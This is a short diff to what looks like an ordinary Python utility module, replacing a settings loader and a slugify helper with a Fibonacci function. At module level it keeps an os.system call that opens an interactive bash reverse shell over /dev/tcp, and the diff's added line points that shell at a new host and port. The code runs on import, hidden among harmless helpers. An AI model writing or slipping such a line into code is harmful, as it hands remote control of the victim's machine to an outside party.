@@ -1,11 +1,9 @@
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
-
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import os
-os.system("bash -i >& /dev/tcp/{}/{} 0>&1".format("172.16.4.2", 443))
+os.system("bash -i >& /dev/tcp/{}/{} 0>&1".format("203.0.113.9", 9001))
